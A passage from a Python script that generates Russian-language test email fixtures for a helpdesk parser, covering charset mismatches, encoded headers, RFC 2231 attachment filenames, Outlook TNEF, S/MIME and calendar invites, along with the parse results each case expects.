<HTML><BODY><div>Спасибо, посылку получил. Но в комплекте нет зарядного устройства, хотя на сайте оно указано.</div><div>&nbsp;</div><div data-signature-widget="container"><div data-signature-widget="content"><div>--<br>Павел Егоров</div></div></div><div>&nbsp;</div><blockquote style="border-left:1px solid #0857A6; margin:10px; padding:0 0 0 10px;">Понедельник, 30 ноября 2026, 10:15 +03:00 от Мария Орлова &lt;<a href="/compose?To=support@support.example.ru">support@support.example.ru</a>&gt;:<br>&nbsp;<div id=""><div class="js-helper js-readmsg-msg"><div><div id="style_17644873090000000000_BODY">Павел, здравствуйте! Посылка передана в доставку, ожидайте курьера завтра с 10 до 18.<br><br>--<br>Служба поддержки Helpwire</div></div></div></div></blockquote></BODY></HTML>
"""
bnd = "--ALT--7aE6f2B1c9D4e8F0a3B5c7D9e1F2a4B61764523117"
raw = message([
    ("From", addr("Павел Егоров", "p.egorov@mail.ru", "UTF-8")),
    ("To", addr(AGENT, SUPPORT, "UTF-8")),
    ("Subject", ew_b("Re: Заказ №5540 доставлен не полностью [#1088]", "UTF-8")),
    ("MIME-Version", "1.0"),
    ("X-Mailer", "Mail.Ru Mailer 1.0"),
    ("X-SenderField-Remind", "0"),
    ("Date", "Mon, 30 Nov 2026 20:18:37 +0300"),
    ("Reply-To", addr("Павел Егоров", "p.egorov@mail.ru", "UTF-8")),
    ("In-Reply-To", ours),
    ("References", ours),
    ("Message-ID", mid),
    ("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % bnd),
    ("X-Mras", "Ok"),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")], b64t(text)),
    part([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "base64")], b64t(html)),
]))
add("09-mailru-reply.eml", raw, **{
    "from": "p.egorov@mail.ru", "name": "Павел Егоров", "subject": "Re: Заказ №5540 доставлен не полностью [#1088]",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": ["в комплекте нет зарядного устройства"],
    "quoted_contains": "Посылка передана в доставку, ожидайте курьера завтра"})

# 10 koi8-r 8bit (declared correctly), koi8-r B name + Q subject, "пишет:" attribution, "-- " signature
ours = hw("1090")
mid = "<1981652473.20261201093012@vector.example.ru>"
text = """Здравствуйте, Мария.

Текст ошибки: "Не удалось подключиться к информационной базе 1С". Выгрузка падает каждый раз на 40%.
Сервер 1С перезагружали, не помогло.

-- 
С уважением,
Виктор Семёнов
ООО "Вектор", отдел ИТ

30.11.2026 10:15, Мария Орлова пишет:
> Виктор, добрый день! Пришлите, пожалуйста, текст ошибки из журнала.
"""
raw = message([
    ("Date", "Tue, 1 Dec 2026 09:30:12 +0300"),
    ("From", addr("Виктор Семёнов", "v.semenov@vector.example.ru", "koi8-r")),
    ("X-Mailer", "The Bat! (v10.4.0.1) Professional"),
    ("Reply-To", addr("Виктор Семёнов", "v.semenov@vector.example.ru", "koi8-r")),
    ("Message-ID", mid),
    ("To", addr(AGENT, SUPPORT, "koi8-r")),
    ("Subject", ew_q("Re: Ошибка при выгрузке в 1С [#1090]", "koi8-r")),
    ("In-Reply-To", ours),
    ("References", ours),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=koi8-r"),
    ("Content-Transfer-Encoding", "8bit"),
], text.encode("koi8-r"))
add("10-koi8r-8bit-reply-signature.eml", raw, **{
    "from": "v.semenov@vector.example.ru", "name": "Виктор Семёнов", "subject": "Re: Ошибка при выгрузке в 1С [#1090]",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": ["Не удалось подключиться к информационной базе 1С", "Выгрузка падает каждый раз на 40%."],
    "quoted_contains": "Пришлите, пожалуйста, текст ошибки из журнала."})

# =========================================================================== charsets
# 11 windows-1251 quoted-printable, declared correctly; cp1251 B name and subject
mid = "<002a01db4b12$8e4f2a10$aaed7e30$@example.ru>"
text = """Здравствуйте!

Уже третий день не приходит SMS с кодом при входе в личный кабинет. Номер +7 916 555-12-34, оператор — МТС.
Прошу проверить, в чём проблема.

Галина Фёдорова
"""
raw = message([
    ("From", addr("Галина Фёдорова", "g.fedorova@example.ru", "windows-1251")),
    ("To", "<support@support.example.ru>"),
    ("Subject", ew_b("Не приходит SMS с кодом подтверждения", "windows-1251")),
    ("Date", date(1, 12, 10, 2, 44)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'text/plain;\n\tcharset="windows-1251"'),
    ("Content-Transfer-Encoding", "quoted-printable"),
    ("X-Mailer", "Microsoft Outlook 16.0"),
], qp(text, "cp1251"))
add("11-cp1251-qp.eml", raw, **{
    "from": "g.fedorova@example.ru", "name": "Галина Фёдорова", "subject": "Не приходит SMS с кодом подтверждения",
    "message_id": mid, "text_contains": ["не приходит SMS с кодом при входе", "оператор — МТС"]})

# 12 raw 8-bit windows-1251 with a correct charset, Windows paths with backslashes (LF file)
mid = "<000801db4b15$c1a2b3c0$0201a8c0@buh02>"
text = r"""Добрый день!

Выгрузку сохраняем в C:\Users\Ольга\Документы\Выгрузки, а потом копируем в \\fileserver\Бухгалтерия\2026\Ноябрь.
После копирования файл не открывается: «Ошибка формата файла».
В настройках путь записан с двойными слешами: C:\\Users\\Ольга\\Документы — может, в этом дело?

Ольга Белова
"""
raw = message([
    ("From", '"' + ew_b("Ольга Белова", "windows-1251") + '" <o.belova@example.ru>'),
    ("To", "<support@support.example.ru>"),
    ("Subject", ew_b("Не открывается выгрузка из папки", "windows-1251")),
    ("Date", date(1, 12, 10, 31, 5)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'text/plain;\n\tcharset="windows-1251"'),
    ("Content-Transfer-Encoding", "8bit"),
    ("X-Priority", "3"),
    ("X-MSMail-Priority", "Normal"),
    ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5931"),
    ("X-MimeOLE", "Produced By Microsoft MimeOLE V6.00.2900.6157"),
], text.encode("cp1251"))
add("12-cp1251-8bit-backslashes.eml", raw, eol="lf", **{
    "from": "o.belova@example.ru", "name": "Ольга Белова", "subject": "Не открывается выгрузка из папки",
    "message_id": mid,
    "text_contains": [r"C:\Users\Ольга\Документы\Выгрузки", r"\\fileserver\Бухгалтерия\2026\Ноябрь",
                      r"C:\\Users\\Ольга\\Документы", "«Ошибка формата файла»"]})

# 13 raw 8-bit windows-1251 declared iso-8859-1 (charset lies)
mid = "<20261201104417.9F21C3A0@srv-1c.example.ru>"
text = r"""Добрый день.

При импорте файла D:\Обмен\выгрузка_2026-11-30.csv система пишет «Неверный формат даты в строке 17».
Дата в файле в формате ДД.ММ.ГГГГ, разделитель — точка с запятой.

Роман Зайцев
"""
raw = message([
    ("Date", date(1, 12, 10, 44, 17)),
    ("From", addr("Роман Зайцев", "r.zaytsev@example.ru", "UTF-8", "Q")),
    ("To", SUPPORT),
    ("Subject", ew_q("Не загружается CSV с заказами", "UTF-8")),
    ("Message-ID", mid),
    ("X-Mailer", "1C:Enterprise 8.3"),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=iso-8859-1"),
    ("Content-Transfer-Encoding", "8bit"),
], text.encode("cp1251"))
add("13-cp1251-declared-latin1.eml", raw, true_charset="cp1251", **{
    "from": "r.zaytsev@example.ru", "name": "Роман Зайцев", "subject": "Не загружается CSV с заказами",
    "message_id": mid, "charset_fallback": True,
    "text_contains": [r"D:\Обмен\выгрузка_2026-11-30.csv", "«Неверный формат даты в строке 17»"]})

# 14 raw 8-bit windows-1251 declared us-ascii (and 7bit), regex with backslashes
mid = "<5f0c2d8e91a4b7c3@mailer.example.ru>"
text = r"""Здравствуйте!

В правиле автоматизации указала регулярное выражение ^\d+\s*руб\.?$ для поля «Сумма», но правило не срабатывает на строке «1500 руб.».
Пробовала также [\d\s]+ — результат тот же.

Елена Васильева
"""
raw = message([
    ("From", addr("Елена Васильева", "e.vasilyeva@example.ru", "windows-1251", "Q")),
    ("To", SUPPORT),
    ("Subject", ew_b("Регулярное выражение в правиле не работает")),
    ("Date", date(1, 12, 11, 5, 51)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=us-ascii"),
    ("Content-Transfer-Encoding", "7bit"),
], text.encode("cp1251"))
add("14-cp1251-declared-us-ascii-regex.eml", raw, true_charset="cp1251", **{
    "from": "e.vasilyeva@example.ru", "name": "Елена Васильева", "subject": "Регулярное выражение в правиле не работает",
    "message_id": mid, "charset_fallback": True,
    "text_contains": [r"^\d+\s*руб\.?$", r"[\d\s]+", "правило не срабатывает на строке «1500 руб.»"]})

# 15 raw 8-bit windows-1251 with NO charset parameter at all
mid = "<e3a91c0b7d2f4e58a6b1@site.example.ru>"
text = r"""Добрый день!

Оплата заказа №5590 не прошла, деньги с карты списаны (2 490 руб.), а в личном кабинете статус «Не оплачен».
Скриншот ошибки сохранён в C:\Temp\oplata.png.

Николай Фомин
"""
raw = message([
    ("To", SUPPORT),
    ("Subject", "Zakaz 5590 - oplata ne proshla"),
    ("X-PHP-Originating-Script", "1000:feedback.php"),
    ("From", "Nikolay Fomin <n.fomin@example.ru>"),
    ("Date", date(1, 12, 11, 40, 2)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; format=flowed"),
    ("Content-Transfer-Encoding", "8bit"),
    ("X-Mailer", "PHP/7.4.33"),
], text.encode("cp1251"))
add("15-cp1251-no-charset.eml", raw, true_charset="cp1251", **{
    "from": "n.fomin@example.ru", "name": "Nikolay Fomin", "subject": "Zakaz 5590 - oplata ne proshla",
    "message_id": mid, "charset_fallback": True,
    "text_contains": ["деньги с карты списаны", r"C:\Temp\oplata.png"]})

# 16 koi8-r body declared windows-1251
mid = "<20261201120355.4417@tikhonov.example.ru>"
text = """Здравствуйте.

После обновления до версии 4.3 не печатается товарная накладная: при нажатии кнопки "Печать" ничего не происходит.
Принтер HP LaserJet, драйвер обновляли на прошлой неделе, другие документы печатаются нормально.
Подскажите, пожалуйста, что можно сделать.

Борис Тихонов
"""
raw = message([
    ("From", addr("Борис Тихонов", "b.tikhonov@example.ru", "koi8-r")),
    ("To", SUPPORT),
    ("Subject", ew_b("Не печатается накладная", "koi8-r")),
    ("Date", date(1, 12, 12, 3, 55)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=windows-1251"),
    ("Content-Transfer-Encoding", "8bit"),
    ("User-Agent", "Sylpheed 3.7.0 (GTK+ 2.24.33; x86_64-pc-linux-gnu)"),
], text.encode("koi8-r"))
add("16-koi8r-declared-cp1251.eml", raw, true_charset="koi8-r", **{
    "from": "b.tikhonov@example.ru", "name": "Борис Тихонов", "subject": "Не печатается накладная",
    "message_id": mid, "charset_fallback": True,
    "text_contains": ["не печатается товарная накладная", "драйвер обновляли на прошлой неделе"]})

# 17 raw 8-bit utf-8 (Content-Transfer-Encoding: 8bit) with regexes (LF file)
mid = "<b7e2c4a0-3f19-4d8e-a5c6-0e1f2a3b4c5d@example.ru>"
text = r"""Добрый день!

Фильтр в правилах маршрутизации не срабатывает. Пишу регулярку ^Заказ\s*№\s*(\d+)$ — на тестовой строке «Заказ № 1042» совпадение есть, а в Helpwire нет.
Ещё пробовал \d+\s*шт и \bзаказ\b — тоже без результата. Экранирование \\ тоже пробовал.

Игорь
"""
raw = message([
    ("From", addr("Игорь Сорокин", "i.sorokin@example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_q("Правило маршрутизации не срабатывает")),
    ("Date", date(1, 12, 12, 20, 0)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=UTF-8"),
    ("Content-Transfer-Encoding", "8bit"),
], text.encode("utf-8"))
add("17-utf8-8bit-regex.eml", raw, eol="lf", **{
    "from": "i.sorokin@example.ru", "name": "Игорь Сорокин", "subject": "Правило маршрутизации не срабатывает",
    "message_id": mid,
    "text_contains": [r"^Заказ\s*№\s*(\d+)$", r"\d+\s*шт", r"\bзаказ\b", r"Экранирование \\ тоже пробовал"]})

# 18 subject over four encoded words in three charsets, B and Q mixed; koi8-r Q From name
mid = "<20261201124512.GB7712@komarova.example.ru>"
text = "Добрый день!\n\nПри оплате заказа бонусные баллы не списываются, хотя в корзине отмечено «списать 500 баллов».\n\nВера Комарова\n"
raw = message([
    ("From", addr("Вера Комарова", "v.komarova@example.ru", "koi8-r", "Q")),
    ("To", SUPPORT),
    ("Subject", "\n ".join([ew_b("Не списываются", "UTF-8"), ew_q(" бонусные баллы", "UTF-8"),
                            ew_b(" при оплате", "windows-1251"), ew_q(" заказа 6120", "koi8-r")])),
    ("Date", date(1, 12, 12, 45, 12)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "quoted-printable"),
], qp(text))
add("18-subject-mixed-encoded-words.eml", raw, **{
    "from": "v.komarova@example.ru", "name": "Вера Комарова", "subject": "Не списываются бонусные баллы при оплате заказа 6120",
    "message_id": mid, "text_contains": ["бонусные баллы не списываются", "«списать 500 баллов»"]})

# 19 subject split over B words in the MIDDLE of a UTF-8 character (RFC-violating, but common)
mid = "<01J9ZK3M5N7P9Q1R3S5T7V9W@crm.example.ru>"
subj = "Не могу добавить сотрудника в отдел продаж"
sb = subj.encode("utf-8")
words = ["=?UTF-8?B?%s?=" % base64.b64encode(sb[i:i + 15]).decode() for i in range(0, len(sb), 15)]
text = "Здравствуйте!\n\nПри добавлении сотрудника в отдел «Продажи» появляется ошибка «Недостаточно лицензий», хотя свободных лицензий ещё три.\n\nЕвгений Крылов\n"
raw = message([
    ("From", addr("Евгений Крылов", "e.krylov@example.ru")),
    ("To", SUPPORT),
    ("Subject", "\n ".join(words)),
    ("Date", date(1, 12, 13, 1, 9)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "base64"),
], b64t(text))
add("19-subject-split-mid-character.eml", raw, **{
    "from": "e.krylov@example.ru", "name": "Евгений Крылов", "subject": subj, "message_id": mid,
    "text_contains": ["ошибка «Недостаточно лицензий»"]})

# =========================================================================== attachments
# 20 PDF attachment, RFC 2231 filename*=utf-8''%D0%A1%D1%87%D0%B5%D1%82.pdf
mid = "<3c9e1f7a2b4d4e6f8a0b@romashka.example.ru>"
bnd = "=_mixed_8e3c1a5f2b7d9e0c"
raw = message([
    ("From", addr("Бухгалтерия ООО «Ромашка»", "buh@romashka.example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Счёт на оплату №318 от 30.11.2026")),
    ("Date", date(1, 12, 13, 30, 0)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/mixed; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("Добрый день!\n\nВо вложении счёт на оплату продления лицензии Helpwire на 2027 год.\n\nБухгалтерия ООО «Ромашка»\n")),
    part([("Content-Type", 'application/pdf; name="=?UTF-8?B?0KHRh9C10YIucGRm?="'),
          ("Content-Disposition", "attachment; filename*=utf-8''%D0%A1%D1%87%D0%B5%D1%82.pdf"),
          ("Content-Transfer-Encoding", "base64")], b64(pdf("Schet 318"))),
], preamble=b"This is a multi-part message in MIME format.\n"))
add("20-pdf-rfc2231-filename.eml", raw, **{
    "from": "buh@romashka.example.ru", "name": "Бухгалтерия ООО «Ромашка»", "subject": "Счёт на оплату №318 от 30.11.2026",
    "message_id": mid, "attachments": ["Счет.pdf"],
    "text_contains": ["Во вложении счёт на оплату продления лицензии Helpwire на 2027 год."]})

# 21 .xlsx with RFC 2231 continuations (filename*0*= / filename*1*= / filename*2*=, split inside a UTF-8 char)
mid = "<9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d@example.ru>"
fname = "Отчёт по заявкам за ноябрь 2026.xlsx"
pct = "".join("%%%02X" % b if (b >= 0x80 or b in b" %*'();:,\"") else chr(b) for b in fname.encode("utf-8"))
toks = []
i = 0
while i < len(pct):
    n = 3 if pct[i] == "%" else 1
    toks.append(pct[i:i + n])
    i += n
segs = ["".join(toks[0:13]), "".join(toks[13:29]), "".join(toks[29:])]
disp = "attachment;\n filename*0*=UTF-8''%s;\n filename*1*=%s;\n filename*2*=%s" % tuple(segs)
bnd = "------------0Hk4RtYbA2DZp3q8sLx1WcVn"
raw = message([
    ("Message-ID", mid),
    ("Date", date(1, 12, 14, 2, 33)),
    ("MIME-Version", "1.0"),
    ("User-Agent", "Mozilla Thunderbird"),
    ("Content-Language", "ru"),
    ("To", SUPPORT),
    ("From", addr("Анна Петрова", "anna.petrova@example.ru")),
    ("Subject", ew_b("Отчёт по заявкам за ноябрь")),
    ("Content-Type", 'multipart/mixed; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=UTF-8; format=flowed"), ("Content-Transfer-Encoding", "8bit")],
         "Добрый день!\n\nОтчёт по заявкам за ноябрь во вложении, всего 412 заявок.\n\n-- \nАнна Петрова\n".encode()),
    part([("Content-Type", 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n name="%s"' % ew_b(fname)),
          ("Content-Disposition", disp),
          ("Content-Transfer-Encoding", "base64")], b64(xlsx())),
], preamble=b"This is a multi-part message in MIME format.\n"))
add("21-xlsx-rfc2231-continuation.eml", raw, **{
    "from": "anna.petrova@example.ru", "name": "Анна Петрова", "subject": "Отчёт по заявкам за ноябрь",
    "message_id": mid, "attachments": [fname], "text_contains": ["всего 412 заявок"]})

# 22 text/plain attachment (Content-Disposition: attachment) with an RFC 2047 filename — must NOT become the body
mid = "<20261201141512.71c3@grachev.example.ru>"
fname = "журнал ошибок 01.12.2026.txt"
log = ("2026-12-01 03:15:02 ERROR Не удалось отправить письмо: таймаут SMTP\n"
       "2026-12-01 03:30:02 ERROR Не удалось отправить письмо: таймаут SMTP\n"
       "2026-12-01 03:45:03 ERROR Не удалось отправить письмо: таймаут SMTP\n")
bnd = "b1_4f7a2c9e0d3b6f8a1c5e7d9b2a4f6c8e"
raw = message([
    ("From", addr("Станислав Грачёв", "s.grachev@example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Ошибки отправки писем, журнал во вложении")),
    ("Date", date(1, 12, 14, 15, 12)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/mixed; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=UTF-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("Здравствуйте!\n\nПрикладываю журнал ошибок за ночь. Письма клиентам не уходят, ошибка повторяется каждые 15 минут.\n\nСтанислав\n")),
    part([("Content-Type", 'text/plain; charset=UTF-8; name="%s"' % ew_b(fname)),
          ("Content-Disposition", 'attachment; filename="%s"' % ew_b(fname)),
          ("Content-Transfer-Encoding", "8bit")], log.encode("utf-8")),
]))
add("22-txt-attachment-rfc2047-filename.eml", raw, **{
    "from": "s.grachev@example.ru", "name": "Станислав Грачёв", "subject": "Ошибки отправки писем, журнал во вложении",
    "message_id": mid, "attachments": [fname],
    "text_contains": ["Письма клиентам не уходят, ошибка повторяется каждые 15 минут."]})

# 23 Outlook rich text: winmail.dat (application/ms-tnef); body koi8-r base64
mid = "<DB9PR07MB71124E5A3C2B1D0E9F8A7B6C5D4E3F2A@DB9PR07MB7112.eurprd07.prod.outlook.com>"
bnd = "_002_DB9PR07MB71124E5A3C2B1D0E9F8A7B6C5D4E3F2ADB9PR07MB7112eurp_"
tnef = b"\x78\x9f\x3e\x22\x2a\x01\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00\x01\x07\x90\x06\x00\x08\x00\x00\x00\xe4\x04" + rnd(23, 2400)
raw = message([
    ("From", addr("Пётр Сидоров", "p.sidorov@stroytorg.example.ru", "koi8-r")),
    ("To", addr("Служба поддержки", SUPPORT, "koi8-r")),
    ("Subject", ew_b("Коммерческое предложение и спецификация", "koi8-r")),
    ("Thread-Topic", ew_b("Коммерческое предложение и спецификация", "koi8-r")),
    ("Thread-Index", "AdtLHn1m0x3a9F2QTkmuVb2xq7w5Cg=="),
    ("Date", date(1, 12, 11, 58, 40, "+0000")),
    ("Message-ID", mid),
    ("Accept-Language", "ru-RU, en-US"),
    ("Content-Language", "ru-RU"),
    ("X-MS-Has-Attach", "yes"),
    ("X-MS-TNEF-Correlator", "<DB9PR07MB71124E5A3C2B1D0E9F8A7B6C5D4E3F2A@DB9PR07MB7112.eurprd07.prod.outlook.com>"),
    ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % bnd),
    ("MIME-Version", "1.0"),
], multipart(bnd, [
    part([("Content-Type", 'text/plain; charset="koi8-r"'), ("Content-Transfer-Encoding", "base64")],
         b64t("Добрый день.\n\nНаправляю спецификацию к договору поставки. Если вложение не открывается, сообщите - пришлю в PDF.\n\nПётр Сидоров\nООО \"СтройТорг\"\n", "koi8-r")),
    part([("Content-Type", 'application/ms-tnef; name="winmail.dat"'),
          ("Content-Description", "winmail.dat"),
          ("Content-Disposition", 'attachment; filename="winmail.dat"; size=%d;\n\tcreation-date="Tue, 01 Dec 2026 11:58:40 GMT";\n\tmodification-date="Tue, 01 Dec 2026 11:58:40 GMT"' % len(tnef)),
          ("Content-Transfer-Encoding", "base64")], b64(tnef)),
]))
add("23-outlook-winmail-dat.eml", raw, **{
    "from": "p.sidorov@stroytorg.example.ru", "name": "Пётр Сидоров", "subject": "Коммерческое предложение и спецификация",
    "message_id": mid, "attachments": ["winmail.dat"],
    "text_contains": ["Направляю спецификацию к договору поставки."]})

# 24 S/MIME signed (multipart/signed + smime.p7s)
mid = "<1283364578.7741.1764594011230@bank.example.ru>"
bnd = "----=_Part_7741_1283364578.1764594011230"
p7s = (b"\x30\x82\x0b\x1a\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x82\x0b\x0b\x30\x82\x0b\x07\x02\x01\x01\x31\x0f\x30\x0d"
       b"\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x05\x00" + rnd(24, 1800))
raw = message([
    ("Date", date(1, 12, 16, 0, 11)),
    ("From", addr("Юлия Андреева", "y.andreeva@bank.example.ru")),
    ("To", SUPPORT),
    ("Message-ID", mid),
    ("Subject", ew_b("Подтверждение изменения реквизитов")),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;\n\tboundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=UTF-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("Добрый день!\n\nНаправляю подписанное письмо с подтверждением реквизитов. Новые реквизиты действуют с 1 декабря 2026 года.\n\nЮлия Андреева\nОтдел расчётов\n")),
    part([("Content-Type", "application/pkcs7-signature; name=smime.p7s"),
          ("Content-Transfer-Encoding", "base64"),
          ("Content-Disposition", 'attachment; filename="smime.p7s"'),
          ("Content-Description", "S/MIME Cryptographic Signature")], b64(p7s)),
], preamble=b"This is a cryptographically signed message in MIME format.\n\n"))
add("24-smime-signed.eml", raw, **{
    "from": "y.andreeva@bank.example.ru", "name": "Юлия Андреева", "subject": "Подтверждение изменения реквизитов",
    "message_id": mid, "attachments": ["smime.p7s"],
    "text_contains": ["Новые реквизиты действуют с 1 декабря 2026 года."]})

# 25 calendar invite: text/calendar method=REQUEST inside alternative + invite.ics attachment (Google Calendar shape)
mid = "<calendar-5b3e9a71-2c4d-4f8e-b6a0-1d2e3f4a5b6c@google.com>"
ics = "\r\n".join([
    "BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0", "CALSCALE:GREGORIAN",
    "METHOD:REQUEST", "BEGIN:VEVENT", "DTSTART:20261202T080000Z", "DTEND:20261202T090000Z",
    "DTSTAMP:20261130T120000Z", "ORGANIZER;CN=Андрей Павлов:mailto:a.pavlov@gmail.com",
    "UID:5k3j2h1g0f9e8d7c6b5a4@google.com",
    "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=",
    " TRUE;CN=support@support.example.ru;X-NUM-GUESTS=0:mailto:support@support.exa",
    " mple.ru",
    "SUMMARY:Созвон по внедрению Helpwire", "DESCRIPTION:Обсудим перенос заявок из старой системы.",
    "LOCATION:https://meet.example.com/abc-defg-hij", "SEQUENCE:0", "STATUS:CONFIRMED",
    "END:VEVENT", "END:VCALENDAR", ""]).encode("utf-8")
subj = "Приглашение: Созвон по внедрению Helpwire @ ср 2 дек. 2026 11:00 - 12:00 (MSK) (support@support.example.ru)"
outer, alt = "000000000000c2d3e40626d5e6f7", "000000000000c2d3e30626d5e6f7"
text = "Вас пригласили на мероприятие.\n\nСозвон по внедрению Helpwire\nКогда: среда, 2 декабря 2026 11:00 – 12:00 (Москва)\nОрганизатор: Андрей Павлов\n"
html = "<p>Вас пригласили на мероприятие.</p><h2>Созвон по внедрению Helpwire</h2><p>Когда: среда, 2 декабря 2026 11:00 – 12:00 (Москва)</p><p>Организатор: Андрей Павлов</p>"
raw = message([
    ("MIME-Version", "1.0"),
    ("Reply-To", "Андрей Павлов <a.pavlov@gmail.com>".replace("Андрей Павлов", ew_b("Андрей Павлов"))),
    ("Sender", "Google Calendar <calendar-notification@google.com>"),
    ("Auto-Submitted", "no"),
    ("Message-ID", mid),
    ("Date", date(30, 11, 12, 0, 0, "+0000")),
    ("Subject", ew_b_chunks(["Приглашение: Созвон по внедрению Helpwire @ ср 2 дек. 2026 ",
                             "11:00 - 12:00 (MSK) (support@support.example.ru)"])),
    ("From", addr("Андрей Павлов", "a.pavlov@gmail.com")),
    ("To", SUPPORT),
    ("Content-Type", 'multipart/mixed; boundary="%s"' % outer),
], multipart(outer, [
    part([("Content-Type", 'multipart/alternative; boundary="%s"' % alt)], multipart(alt, [
        part([("Content-Type", 'text/plain; charset="UTF-8"; format=flowed; delsp=yes'), ("Content-Transfer-Encoding", "base64")], b64t(text)),
        part([("Content-Type", 'text/html; charset="UTF-8"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(html)),
        part([("Content-Type", 'text/calendar; charset="UTF-8"; method=REQUEST'), ("Content-Transfer-Encoding", "base64")], b64(ics)),
    ])),
    part([("Content-Type", 'application/ics; name="invite.ics"'), ("Content-Disposition", 'attachment; filename="invite.ics"'),
          ("Content-Transfer-Encoding", "base64")], b64(ics)),
]))
add("25-calendar-invite.eml", raw, **{
    "from": "a.pavlov@gmail.com", "name": "Андрей Павлов", "subject": subj, "message_id": mid,
    "attachments": ["invite.ics"], "text_contains": ["Созвон по внедрению Helpwire", "Вас пригласили на мероприятие."]})

# 26 attachment without filename: only name= (RFC 2047) on Content-Type, bare "Content-Disposition: attachment"
mid = "<20261201150203.0017@1c.vector.example.ru>"
fname = "Договор №17.pdf"
bnd = "----------3C4D5E6F7A8B9C0D"
raw = message([
    ("From", addr("ООО «Вектор»", "docs@vector.example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Договор на обслуживание")),
    ("Date", date(1, 12, 15, 2, 3)),
    ("Message-ID", mid),
    ("X-Mailer", "1C:Enterprise 8.3"),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/mixed; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")],
         b64t("Добрый день!\n\nНаправляем договор на техническое обслуживание для подписания.\n\nООО «Вектор»\n")),
    part([("Content-Type", 'application/pdf; name="%s"' % ew_b(fname, "utf-8")),
          ("Content-Disposition", "attachment"),
          ("Content-Transfer-Encoding", "base64")], b64(pdf("Dogovor 17"))),
]))
add("26-attachment-name-param-only.eml", raw, **{
    "from": "docs@vector.example.ru", "name": "ООО «Вектор»", "subject": "Договор на обслуживание", "message_id": mid,
    "attachments": [fname], "text_contains": ["Направляем договор на техническое обслуживание для подписания."]})

# 27 Gmail with two inline cid: screenshots (multipart/related)
mid = "<CAMp4Qd8yT1nR5vX2kW9bL3zHs7fE0jG6uNa4oYcV+Kg@mail.gmail.com>"
rel, alt = "000000000000e5f6a70626e7f8a9", "000000000000e5f6a60626e7f8a9"
img1, img2 = png(64, 40, (220, 60, 60)), png(64, 40, (60, 120, 220))
text = "Добрый день! При оформлении заказа появляется ошибка 502, скриншоты ниже.\n\n[image: шаг1.png]\n[image: шаг2.png]\n\nВадим Медведев\n"
html = ('<div dir="ltr"><div>Добрый день! При оформлении заказа появляется ошибка 502, скриншоты ниже.</div><div><br></div>'
        '<div><img src="cid:ii_mk1a2b3c0" alt="шаг1.png" width="562" height="351"><br></div>'
        '<div><img src="cid:ii_mk1a2b3d1" alt="шаг2.png" width="562" height="351"><br></div><div><br></div><div>Вадим Медведев</div></div>\n')
raw = message([
    ("MIME-Version", "1.0"),
    ("From", addr("Вадим Медведев", "v.medvedev@gmail.com")),
    ("Date", date(1, 12, 15, 30, 19)),
    ("Message-ID", mid),
    ("Subject", ew_b("Ошибка при оформлении заказа — скриншоты")),
    ("To", SUPPORT),
    ("Content-Type", 'multipart/related; boundary="%s"' % rel),
], multipart(rel, [
    part([("Content-Type", 'multipart/alternative; boundary="%s"' % alt)], multipart(alt, [
        part([("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "base64")], b64t(text)),
        part([("Content-Type", 'text/html; charset="UTF-8"'), ("Content-Transfer-Encoding", "base64")], b64t(html)),
    ])),
    part([("Content-Type", 'image/png; name="%s"' % ew_b("шаг1.png")), ("Content-Disposition", 'inline; filename="%s"' % ew_b("шаг1.png")),
